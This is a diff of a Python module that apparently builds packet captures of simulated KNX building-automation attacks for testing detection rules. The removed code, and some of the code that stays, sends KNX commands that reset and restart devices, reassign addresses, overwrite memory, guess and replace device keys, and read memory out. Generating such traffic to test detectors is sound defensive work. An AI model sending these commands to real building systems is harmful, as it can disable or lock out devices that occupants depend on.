@@ -8,19 +8,18 @@ import struct
 
 from xknx import XKNX
 from xknx.io.gateway_scanner import GatewayScanner
-from xknx.telegram import IndividualAddress, apci
+from xknx.telegram import apci
 
 from compose.plant.addresses import KNX_PORT, ip
 from compose.plant.catalogue import capture
-from compose.plant.golden_knx import SERIAL
 from compose.plant.golden_knx_frames import CONNECT, HPAI, framed, tunnelled
-from compose.plant.knx_bus import KEY, address, telegram
+from compose.plant.knx_bus import address, telegram
 from compose.plant.knx_interface import GROUP, Interface, interface
 from compose.plant.knx_work import Station, Work, route_as, send_raw, work_as
 from compose.plant.lab import Lab
 
 NORMAL = "knx/normal.pcap"
-ALL_RULES = "KN01 KN02 KN03 KN04 KN05 KN06 KN06N KN07 KN08 KN09 KN10 KN11"
+ALL_RULES = "KN01 KN02 KN03 KN04 KN05 KN06 KN06N KN07 KN08 KN08S KN09 KN10 KN11"
 _BEAT = 0.5  # seconds
 
 
@@ -103,61 +102,13 @@ def normal_later(lab: Lab) -> None:
     _normal(lab, 9)
 
 
-def _attack(
+def attack(
     lab: Lab, name: str, techniques: str, rules: str, work: Work, source: str = "att", tcp: bool = False
 ) -> None:
     with interface(lab) as device:
         device.bus[0].programming = True
         with lab.step(name, source, "knx", techniques.split(), rules.split()):
             work_as(lab, source, work, tcp=tcp)
-
-
-@capture("knx/restart.pcap", "A stranger restarts a device and resets it to its factory state.", "knx att",
-         rules="KN01 KN05", learn=NORMAL, check={"cemi.mc==0x11": 4})  # fmt: skip
-def restart(lab: Lab) -> None:
-    """A master reset and a restart."""
-
-    async def work(station: Station) -> None:
-        await station.ask("1.1.5", apci.RestartMasterReset(erase_code=2, channel_number=0), apci.Restart())
-
-    _attack(lab, "restart and reset a device", "T0816 T0809", "KN01 KN05", work)
-
-
-@capture("knx/address.pcap", "A stranger gives a device in programming mode, and one by its serial number, new "
-         "addresses.", "knx att", rules="KN02 KN05", learn=NORMAL, check={"cemi.mc==0x11": 2})  # fmt: skip
-def new_address(lab: Lab) -> None:
-    """Two addresses."""
-
-    async def work(station: Station) -> None:
-        await station.all(apci.IndividualAddressWrite(address=IndividualAddress("1.1.66")))
-        await station.all(apci.IndividualAddressSerialWrite(serial=SERIAL, address=IndividualAddress("1.1.67")))
-
-    _attack(lab, "give devices new addresses", "T0836 T0889", "KN02 KN05", work)
-
-
-@capture("knx/download.pcap", "A stranger unloads a device's program and overwrites its memory, over TCP.", "knx att",
-         rules="KN03 KN05", learn=NORMAL, check={"cemi.mc==0x11": 4})  # fmt: skip
-def download(lab: Lab) -> None:
-    """Load state and memory."""
-
-    async def work(station: Station) -> None:
-        parts = [apci.MemoryWrite(address=0x4000 + at, data=b"\xff" * 12) for at in range(0, 36, 12)]
-        load = apci.PropertyValueWrite(object_index=1, property_id=5, data=b"\1" + bytes(9))
-        await station.ask("1.1.5", load, *parts)
-
-    _attack(lab, "load a device", "T0843 T0889", "KN03 KN05", work, tcp=True)
-
-
-@capture("knx/keys.pcap", "A stranger guesses the key of a device, then sets one of its own.", "knx att",
-         rules="KN04 KN05", learn=NORMAL, check={"cemi.ax==0x3d1": 2, "cemi.ax==0x3d3": 1})  # fmt: skip
-def keys(lab: Lab) -> None:
-    """A wrong key, the right one, a new one."""
-
-    async def work(station: Station) -> None:
-        await station.ask("1.1.5", apci.AuthorizeRequest(key=1), apci.AuthorizeRequest(key=KEY),
-                          apci.KeyWrite(level=0, key=0x0BADC0DE))  # fmt: skip
-
-    _attack(lab, "lock a device with a key", "T0859 T0892", "KN04 KN05", work)
 
 
 @capture("knx/tunnel.pcap", "A workstation of the office opens a tunnel.", "knx office", rules="KN05", learn=NORMAL,
@@ -168,7 +119,7 @@ def tunnel(lab: Lab) -> None:
     async def work(_: Station) -> None:
         await asyncio.sleep(0.2)
 
-    _attack(lab, "open a tunnel from the office", "T0886", "KN05", work, source="office")
+    attack(lab, "open a tunnel from the office", "T0886", "KN05", work, source="office")
 
 
 @capture("knx/write.pcap", "A stranger switches a group through a tunnel and by routing.", "knx att", rules="KN06 KN05",
@@ -193,21 +144,7 @@ def first_write(lab: Lab) -> None:
     async def work(station: Station) -> None:
         await station.write("1/3/1", struct.pack(">f", 31.0))
 
-    _attack(lab, "first write to a group", "T0836", "KN06N", work, source="bms")
-
-
-@capture("knx/routing.pcap", "A stranger programs and restarts devices of all lines by multicast.", "knx att",
-         rules="KN07 KN02 KN01", learn=NORMAL, check={"knxip.service==0x0530": 2})  # fmt: skip
-def routing(lab: Lab) -> None:
-    """An address and a restart, and the IP side's own reset."""
-
-    async def work(station: Station) -> None:
-        await station.all(apci.IndividualAddressWrite(address=IndividualAddress("1.1.66")))
-        await station.say(IndividualAddress("1.1.5"), apci.Restart())
-
-    with interface(lab), lab.step("manage by multicast", "att", GROUP, ["T0836", "T0816"], ["KN07", "KN02", "KN01"]):
-        route_as(lab, "att", work, own="1.1.250")
-        lab["att"].call(send_raw, "att", GROUP, (framed(0x0743, b"\2\1\2\0"),))
+    attack(lab, "first write to a group", "T0836", "KN06N", work, source="bms")
 
 
 @capture("knx/search.pcap", "A stranger searches for interfaces, as scanners do.", "knx att", rules="KN08",
@@ -217,19 +154,6 @@ def search(lab: Lab) -> None:
     with interface(lab), lab.step("search for interfaces", "att", GROUP, ["T0846", "T0888"], ["KN08"]):
         lab["att"].run(_search("att"))
         lab["att"].call(send_raw, "att", ip("knx"), (framed(0x0203, HPAI),))
-
-
-@capture("knx/readout.pcap", "A stranger reads a device's memory and properties.", "knx att", rules="KN11 KN08 KN05",
-         learn=NORMAL, check={"cemi.mc==0x11": 4})  # fmt: skip
-def readout(lab: Lab) -> None:
-    """Thirty bytes and a serial number."""
-
-    async def work(station: Station) -> None:
-        parts = [apci.MemoryRead(address=0x4000 + at, count=10) for at in range(0, 30, 10)]
-        await station.ask("1.1.5", apci.DeviceDescriptorRead(descriptor=0),
-                          apci.PropertyValueRead(object_index=0, property_id=11), *parts)  # fmt: skip
-
-    _attack(lab, "read a device out", "T0845 T0888", "KN11 KN08 KN05", work)
 
 
 def _broken() -> None:
